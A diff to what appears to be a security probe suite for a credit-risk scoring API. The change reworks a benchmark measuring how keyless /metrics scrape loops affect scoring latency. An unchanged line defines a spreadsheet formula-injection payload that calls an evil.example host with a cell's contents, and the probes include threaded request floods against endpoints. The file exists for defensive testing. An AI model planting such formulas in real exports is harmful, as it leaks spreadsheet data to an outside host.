@@ -32,6 +32,7 @@ FULL = {"name": "ops", "key": "ops-key", "roles": ["score", "review", "audit", "
 SCORER = {"name": "origination", "key": "origination-key", "roles": ["score"]}
 KEYS = [FULL, SCORER]
 REFRESH_S = 1.0
+SCRAPE_MAX_AGE_S = 1.0
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"x")'
 
 
@@ -44,12 +45,14 @@ class Row(NamedTuple):
 
 def server_env(database: Path) -> dict[str, str]:
     """The settings the probes attack: two keys, SQLite at `database`, two API workers, the
-    realised figures refreshed at most every second (scrapes may ask far more often)."""
+    realised figures refreshed and /metrics rendered at most every second (scrapes may ask
+    far more often)."""
     return {
         "CREDIT_RISK_API_KEYS": json.dumps(KEYS),
         "CREDIT_RISK_RECORDS_URL": f"sqlite:///{database}",
         "CREDIT_RISK_API_WORKERS": "2",
         "CREDIT_RISK_REALISED_REFRESH_S": str(REFRESH_S),
+        "CREDIT_RISK_METRICS_MAX_AGE_S": str(SCRAPE_MAX_AGE_S),
     }
 
 
@@ -76,6 +79,9 @@ class Attack:
         return response
 
     def metrics(self) -> str:
+        """A scrape showing what came before it (a worker repeats its last rendering for
+        `SCRAPE_MAX_AGE_S`)."""
+        time.sleep(SCRAPE_MAX_AGE_S + 0.05)
         response = self.session.get(self.url + "/metrics")
         self.statuses[response.status_code] += 1
         return response.text
@@ -240,36 +246,52 @@ def scrape_cost(attack: Attack) -> Row:
     labelled = sum(1 for d in attack.decisions if d == "good")
     for position in attack.positions("good")[100:]:
         attack.outcome(position, True)
-    scrape_ms = []
-    for _ in range(20):
-        started = time.perf_counter()
-        attack.metrics()
-        scrape_ms.append(1000 * (time.perf_counter() - started))
+    rendered_ms, repeated_ms = [], []
+    for _ in range(5):
+        time.sleep(SCRAPE_MAX_AGE_S + 0.05)  # the next scrape renders, the one after repeats it
+        for times in (rendered_ms, repeated_ms):
+            started = time.perf_counter()
+            attack.session.get(attack.url + "/metrics")
+            times.append(1000 * (time.perf_counter() - started))
     applicant = dataset.load()[list(FIELDS)].iloc[2].to_dict()
     quiet = _p99_ms(attack.url, applicant, 10)
-    stop = threading.Event()
-
-    def scrape_loop() -> None:
-        session = requests.Session()
-        while not stop.is_set():
-            session.get(attack.url + "/metrics")
-
-    loops = [threading.Thread(target=scrape_loop) for _ in range(4)]
-    for loop in loops:
-        loop.start()
-    scraped = _p99_ms(attack.url, applicant, 10)
-    stop.set()
-    for loop in loops:
-        loop.join()
+    rounds = [  # alternated, 3 rounds, the medians: the machine is noisy
+        [_p99_ms_with_loops(attack.url, applicant, path) for path in ("/livez", "/metrics")]
+        for _ in range(3)
+    ]
+    probed, scraped = (statistics.median(column) for column in zip(*rounds, strict=True))
     return Row(
         f"keyless scrapes at {labelled} labelled decisions, refreshed at most every "
-        f"{REFRESH_S:.0f} s; "
-        "one client's scoring p99 alone and with 4 scrape loops",
+        f"{REFRESH_S:.0f} s, rendered at most every {SCRAPE_MAX_AGE_S:.0f} s; one client's "
+        "scoring p99 alone, with 4 `/livez` loops and with 4 scrape loops (medians of 3)",
         "a scrape is O(1) in the history (its cost at 1 M labelled rows: "
-        "`python -m benchmarks.realised_metrics`); p99 with scrapes < 3x alone",
-        f"scrape p50 {statistics.median(scrape_ms):.1f} ms; p99 {quiet:.1f} -> {scraped:.1f} ms",
-        scraped < 3 * quiet,
+        "`python -m benchmarks.realised_metrics`); scrape loops cost scoring no more than "
+        "loops of the cheapest keyless request (p99 < 1.3x the `/livez` loops')",
+        f"scrape p50 rendered {statistics.median(rendered_ms):.1f} ms, repeated "
+        f"{statistics.median(repeated_ms):.1f} ms; p99 {quiet:.1f} alone, {probed:.1f} with "
+        f"/livez loops, {scraped:.1f} ms with scrape loops",
+        scraped < 1.3 * probed,
     )
+
+
+def _p99_ms_with_loops(url: str, applicant: dict, path: str) -> float:
+    """`_p99_ms` while 4 keyless clients ask for `path` as fast as they are answered."""
+    stop = threading.Event()
+
+    def loop() -> None:
+        session = requests.Session()
+        while not stop.is_set():
+            session.get(url + path)
+
+    loops = [threading.Thread(target=loop) for _ in range(4)]
+    for thread in loops:
+        thread.start()
+    try:
+        return _p99_ms(url, applicant, 10)
+    finally:
+        stop.set()
+        for thread in loops:
+            thread.join()
 
 
 def _raw(url: str, request: bytes) -> bytes:
